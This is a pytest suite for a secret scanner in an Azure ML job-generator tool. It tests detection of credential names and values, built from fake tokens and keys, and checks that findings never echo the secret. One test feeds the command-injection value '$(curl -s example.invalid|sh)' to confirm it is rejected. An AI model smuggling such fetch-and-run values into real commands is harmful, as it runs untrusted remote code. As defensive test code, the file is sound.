"""Secrets are found by name and by value in values, rendered and hand-written YAML, environment
variables and inputs, and what is sent (submit after --set); a finding never prints the secret.
The fake secrets are assembled here at run time, so that no file in the repository looks like
one to a secret scanner."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from jobgen import secretscan
from jobgen.lint import lint_paths

ROOT = Path(__file__).resolve().parents[1]
JOB_SCHEMA = "https://azuremlschemas.azureedge.net/latest/commandJob.schema.json"

JWT = "eyJ" + "hbGciOiJIUzI1NiJ9" + ".eyJ" + "zdWIiOiJ0ZXN0LW9ubHkifQ" + "." + "ZmFrZS1zaWduYXR1cmU"
PEM = "-----BEGIN " + "PRIVATE KEY-----\nTk9ULUEtUkVBTC1LRVk=\n-----END PRIVATE KEY-----\n"
ACCOUNT_KEY = ("DefaultEndpointsProtocol=https;AccountName=fake;Account" + "Key=" + "RkFLRS1LRVktRk9SLVRFU1RT" * 3
               + "==;EndpointSuffix=core.windows.net")
SAS_URL = "https://fake.blob.core.windows.net/data?sv=2022-11-02&sp=r&s" + "ig=" + "RkFLRVNJR05BVFVSRQ" * 2 + "%3D"
GITHUB = "gh" + "p_" + "A1b2C3d4E5f6G7h8I9j0" * 2
URL_PASSWORD = "postgresql://trainer:" + "hunter2hunter2" + "@db.internal:5432/runs"

# (environment variable, value, what the finding says) - the eight obvious cases and more
ENV_CASES = [
    ("MY_KEY", "plain-value-123", "looks like a secret (by its name)"),
    ("STORAGE_KEY", "plain-value-123", "looks like a secret (by its name)"),
    ("PRIVATE_KEY", "plain-value-123", "looks like a secret (by its name)"),
    ("DB_PASS", "hunter2", "looks like a secret (by its name)"),
    ("SERVICE_CREDENTIALS", "plain-value-123", "looks like a secret (by its name)"),
    ("BASICAUTH", "plain-value-123", "looks like a secret (by its name)"),
    ("DATA_URL", SAS_URL, "a shared access signature"),
    ("STORE", ACCOUNT_KEY, "an Azure storage account key"),
    ("BEARER", JWT, "a JSON Web Token"),
    ("CERT", PEM, "a PEM private key"),
    ("REPO_ACCESS", GITHUB, "a GitHub token"),
    ("DATABASE", URL_PASSWORD, "a password in a URL"),
]


@pytest.mark.parametrize("name", ["MY_KEY", "STORAGE_KEY", "PRIVATE_KEY", "DB_PASS", "AZURE_CREDENTIALS",
                                  "BASIC_AUTH", "OAUTH2_TOKEN", "storageAccountKey", "HFToken", "DB_PWD",
                                  "WANDB_API_KEY", "AZURE_CLIENT_SECRET", "SQL_CONNECTION_STRING"])
def test_secret_names(name):
    assert secretscan.secret_name(name)


@pytest.mark.parametrize("name", ["TOKENIZERS_PARALLELISM", "GIT_AUTHOR_NAME", "PWD", "NCCL_DEBUG",
                                  "AZUREML_COMPUTE_USE_COMMON_RUNTIME", "KEYBOARD_LAYOUT", "MASTER_PORT",
                                  "AUTHENTICATION_MODE", "epochs", "learning_rate"])
def test_names_that_are_not_secrets(name):
    assert not secretscan.secret_name(name)


@pytest.mark.parametrize("value,kind", [(v, k) for _, v, k in ENV_CASES if "by its name" not in k])
def test_secret_values(value, kind):
    assert kind in secretscan.secret_value(value)


@pytest.mark.parametrize("value", [
    "azureml://registries/azureml/environments/acpt-pytorch-2.2-cuda12.1/versions/1",
    "https://azuremlschemas.azureedge.net/latest/commandJob.schema.json",
    "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu20.04:20240101.v1",
    "https://fake.blob.core.windows.net/data/penguins.csv",
    "mongodb://user:${{inputs.password}}@db:27017", "sqlite:///runs/mlflow.db",
    "python train.py --lr 0.001 --model-dir ${{outputs.model_dir}}",
])
def test_values_that_are_not_secrets(value):
    assert secretscan.secret_value(value) is None


def test_a_finding_never_holds_the_value():
    for name, value, _ in ENV_CASES:
        found = secretscan.finding(name, value)
        assert found and value not in found and name in found


# ------------------------------------------------------------------ lint: hand-written YAML

def _job(tmp_path: Path, **fields) -> Path:
    spec = {"$schema": JOB_SCHEMA, "type": "command", "command": "echo hi", "environment": "azureml:env@latest",
            "compute": "azureml:cpu"}
    spec.update(fields)
    path = tmp_path / "job.yml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False))
    return path


def test_lint_finds_every_case_on_its_line_and_never_prints_it(tmp_path):
    path = _job(tmp_path, environment_variables={name: value for name, value, _ in ENV_CASES},
                inputs={"api_token": "abcdef123456", "data": {"type": "uri_file", "path": SAS_URL}})
    located = {name: i for i, name in enumerate(path.read_text().splitlines(), 1)}
    diagnostics = [d for d in lint_paths([path], azure=False) if d.severity == "error"]
    text = "\n".join(d.format() for d in diagnostics)
    for name, value, kind in ENV_CASES:
        hits = [d for d in diagnostics if f"'{name}'" in d.message and kind in d.message]
        assert hits, f"{name}: {kind} not found in\n{text}"
        line = next(i for line_text, i in located.items() if line_text.strip().startswith(f"{name}:"))
        assert hits[0].line == line
    assert "input 'api_token' looks like a secret" in text
    assert "'path' holds what looks like a shared access signature" in text
    for _, value, _ in ENV_CASES:
        for part in value.splitlines():
            assert len(part) < 12 or part not in text
    assert all("Key Vault" in d.hint for d in diagnostics)


def test_lint_finds_a_secret_in_a_values_file_and_a_conda_file(tmp_path):
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"job": {"environment_variables": {"DB_PASS": "hunter2"},
                                              "inputs": {"source": SAS_URL}}}))
    conda = tmp_path / "conda.yaml"
    conda.write_text(yaml.safe_dump({"name": "e", "dependencies": ["python=3.11", {"pip": [
        f"--extra-index-url https://build:{'x' * 20}@pkgs.example.invalid/simple", "torch"]}]}))
    text = "\n".join(d.format() for d in lint_paths([values, conda], azure=False))
    assert "values.yaml:3: error: environment variable 'DB_PASS' looks like a secret" in text
    assert "values.yaml:5: error: 'source' holds what looks like a shared access signature" in text
    assert "conda.yaml" in text and "a password in a URL" in text
    assert "hunter2" not in text and "x" * 20 not in text


def test_names_and_references_that_are_fine_pass(tmp_path):
    path = _job(tmp_path, environment_variables={"TOKENIZERS_PARALLELISM": "false", "HF_TOKEN": "${{inputs.t}}",
                                                 "DB_PASS": "", "NCCL_DEBUG": "INFO"})
    assert [d.format() for d in lint_paths([path], azure=False)] == []


# ------------------------------------------------------------------ render: values and --set

@pytest.mark.parametrize("name,value,kind", ENV_CASES, ids=[c[0] for c in ENV_CASES])
def test_render_refuses_a_secret_given_with_set(cli, checkout, tmp_path, name, value, kind):
    out = tmp_path / "out"
    rc, stdout, stderr = cli("render", "--set", f"environment_variables.{name}={value}", "-o", out)
    assert rc == 1 and len(stderr.splitlines()) == 1, stderr
    assert kind in stderr and "Key Vault" in stderr
    assert value.splitlines()[0] not in stdout + stderr
    assert not out.exists()


def test_render_refuses_a_secret_anywhere_in_the_values(cli, checkout, tmp_path):
    values = tmp_path / "v.yaml"
    values.write_text(yaml.safe_dump({"job": {"tags": {"owner": JWT}}}))
    rc, stdout, stderr = cli("render", "-f", values, "-o", tmp_path / "out")
    assert rc == 1 and "job.tags.owner: holds what looks like a JSON Web Token" in stderr
    assert JWT not in stdout + stderr and not (tmp_path / "out").exists()


# ------------------------------------------------------------------ submit lints what it sends

def _submit(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "generator.py"), "submit", *map(str, args)],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.full
def test_submit_lints_the_file_after_set(tmp_path):
    """--set used to be applied after lint: a token or a $(curl ...|sh) reached the REST body."""
    path = _job(tmp_path, command="python -c 'print(1)' --name ${{inputs.name}}", inputs={"name": "plain"})
    result = _submit(path, "--dry-run", "--set", f"environment_variables.AUTH_HEADER={JWT}")
    assert result.returncode == 1, result.stdout
    assert "a JSON Web Token" in result.stderr and "(after --set); nothing was submitted" in result.stderr
    assert JWT not in result.stdout + result.stderr and result.stdout == ""
    result = _submit(path, "--dry-run", "--set", "inputs.name=$(curl -s example.invalid|sh)")
    assert result.returncode == 1 and "characters the shell interprets" in result.stderr and result.stdout == ""
    result = _submit(path, "--dry-run", "--set", "inputs.name=other")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["properties"]["inputs"]["name"]["value"] == "other"
